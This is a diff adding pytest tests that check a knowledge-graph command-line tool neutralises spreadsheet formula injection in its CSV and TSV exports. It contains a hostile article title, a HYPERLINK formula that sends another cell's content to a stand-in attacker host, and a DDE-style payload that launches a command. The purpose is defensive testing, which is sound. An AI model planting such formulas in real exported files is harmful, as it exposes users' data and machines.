@@ -8,6 +8,7 @@ import io
 import json
 import subprocess
 import sys
+from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
@@ -213,3 +214,65 @@ def test_open_error_mentioning_lock_is_not_busy(run_kg, tmp_path):
     (tmp_path / "locked").write_text("a file, not a folder")
     code, _, err = run_kg("build", "--store", str(tmp_path / "locked" / "store"))
     assert code == 3 and "is busy" not in err and "cannot open" in err, err
+
+
+# Spreadsheet-safe CSV and TSV -------------------------------------------------------------------
+
+#: An article title that LibreOffice turned into a live link carrying another cell to another site.
+HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&B2;"Les mer")'
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory) -> Path:
+    """The sample article's text ingested under a title that is a spreadsheet formula."""
+    from kg.assets import asset_path
+
+    folder = tmp_path_factory.mktemp("hostile")
+    text = asset_path("data", "articles", "drammen-2020-ks-storbynettverk.txt").read_text(encoding="utf-8")
+    record = {"id": "hostile", "title": HOSTILE_TITLE, "date": "2020-11-19", "language": "nb", "text": text}
+    (folder / "hostile.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
+    result = subprocess.run([sys.executable, "-m", "kg.cli", "ingest", str(folder / "hostile.jsonl"),
+                             "--store", str(folder / "store")], capture_output=True, text=True, timeout=300)
+    assert result.returncode == 0, result.stderr
+    return folder / "store"
+
+
+def cells(text: str, delimiter: str = ",") -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+
+
+@pytest.mark.parametrize("args", [("query", "fact-sources", "-p", "entity=Drammen"),
+                                  ("analyse", "path", "Drammen", "Tromsø", "--as-of", "2021-06-01")])
+def test_csv_for_people_neutralises_formulas_and_raw_csv_is_exact(kg_process, hostile_store, args):
+    safe = kg_process(*args, "-f", "csv", "--store", hostile_store)
+    assert safe.returncode == 0, safe.stderr
+    found = cells(safe.stdout)
+    assert not [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(cell.startswith("'" + HOSTILE_TITLE) for cell in found), safe.stdout[:500]
+    raw = kg_process(*args, "-f", "csv-raw", "--store", hostile_store)
+    assert raw.returncode == 0, raw.stderr
+    assert any(cell.startswith(HOSTILE_TITLE) for cell in cells(raw.stdout))
+    assert raw.stdout.replace("'=", "=") == safe.stdout.replace("'=", "=")
+
+
+def test_query_csv_to_a_file_and_tsv_are_safe_and_negative_numbers_too(kg_process, hostile_store, tmp_path):
+    select = ('SELECT ?text ?n ?x WHERE { VALUES (?text ?n ?x) { ("@SUM(1+1)*cmd|\' /C calc\'!A0" -3 -0.5) '
+              '("+1" 7 "\\tx") } }')
+    out = tmp_path / "out.csv"
+    with out.open("w") as handle:  # not a terminal: csv by default
+        result = kg_process("query", "--store", hostile_store, stdin=select, stdout=handle)
+    assert result.returncode == 0, result.stderr
+    assert cells(out.read_text()) == ["text", "n", "x", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-3", "'-0.5",
+                                      "'+1", "7", "'\tx"]
+    raw = kg_process("query", "-f", "csv-raw", "--store", hostile_store, stdin=select)
+    assert cells(raw.stdout)[3:6] == ["@SUM(1+1)*cmd|' /C calc'!A0", "-3", "-0.5"]
+
+    tsv = kg_process("query", "-f", "tsv", "--store", hostile_store, stdin=select).stdout.splitlines()
+    assert tsv[0] == "?text\t?n\t?x"
+    assert tsv[1].split("\t") == ['"\'@SUM(1+1)*cmd|\' /C calc\'!A0"',
+                                  "\"'-3\"^^<http://www.w3.org/2001/XMLSchema#integer>",
+                                  "\"'-0.5\"^^<http://www.w3.org/2001/XMLSchema#decimal>"]
+    raw_tsv = kg_process("query", "-f", "tsv-raw", "--store", hostile_store, stdin=select).stdout.splitlines()
+    assert raw_tsv[1].split("\t")[:2] == ['"@SUM(1+1)*cmd|\' /C calc\'!A0"',
+                                          '"-3"^^<http://www.w3.org/2001/XMLSchema#integer>']
+    assert raw_tsv[2].split("\t")[2] == '"\\tx"'
